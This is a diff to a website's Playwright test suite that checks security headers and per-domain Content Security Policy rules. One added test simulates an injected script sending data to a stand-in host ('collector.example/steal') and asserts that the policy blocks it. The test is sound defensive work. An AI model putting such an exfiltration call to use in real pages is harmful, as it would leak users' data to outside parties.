@@ -1,7 +1,7 @@
 // Pages and static files carry the security headers, no answer sets a cookie, and pages cannot be
 // framed by another site (the whole suite runs with this policy and fails on any console error, so a
 // policy that broke a page would show there).
-import { EXPECTS_CONSOLE_ERRORS, expect, test } from './fixtures';
+import { domainUrl, EXPECTS_CONSOLE_ERRORS, expect, test } from './fixtures';
 
 const SECURED = {
   'strict-transport-security': 'max-age=31536000',
@@ -50,6 +50,34 @@ test('every page answer has its own script nonce, also from the edge cache, and 
   const plain = (await request.get('/about')).headers()['content-security-policy'];
   expect(plain).not.toContain('googlesyndication');
   expect(plain).not.toContain('googletagmanager');
+  // without ads: connections, images and frames are held to this site too (no DSN on this server)
+  expect(plain).toContain("connect-src 'self';");
+  expect(plain).toContain("img-src 'self' data:;");
+  expect(plain).toContain("frame-src 'none'");
+});
+
+test('on a domain without ads a page cannot send data elsewhere; gtag and ad domains get what they need', { annotation: { type: EXPECTS_CONSOLE_ERRORS, description: 'Content Security Policy' } }, async ({ page, baseURL }) => {
+  await page.goto('/about');
+  const refused = await page.evaluate(
+    () =>
+      new Promise<string | null>((resolve) => {
+        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true });
+        // what an injected script would do with what it read
+        void fetch('https://collector.example/steal', { method: 'POST', body: 'x' }).catch(() => undefined);
+        setTimeout(() => resolve(null), 2_000);
+      }),
+  );
+  expect(refused).toBe('connect-src');
+
+  const policyOf = async (host: string) => (await page.goto(domainUrl(host, '/about', baseURL)))?.headers()['content-security-policy'] ?? '';
+  const gtag = await policyOf('greenroute.localhost');
+  expect(gtag).toContain("connect-src 'self' https://*.google-analytics.com https://*.analytics.google.com https://*.googletagmanager.com;");
+  expect(gtag).toContain('img-src \'self\' data: https://*.google-analytics.com https://*.googletagmanager.com;');
+  // AdSense reaches hosts no list keeps up with: its domains keep connections and frames open
+  const ads = await policyOf('fastlane.localhost');
+  expect(ads).toContain('https://pagead2.googlesyndication.com');
+  expect(ads).not.toContain('connect-src');
+  expect(ads).not.toContain('frame-src');
 });
 
 test('an injected inline script without the nonce does not run', { annotation: { type: EXPECTS_CONSOLE_ERRORS, description: 'Content Security Policy' } }, async ({ page }) => {
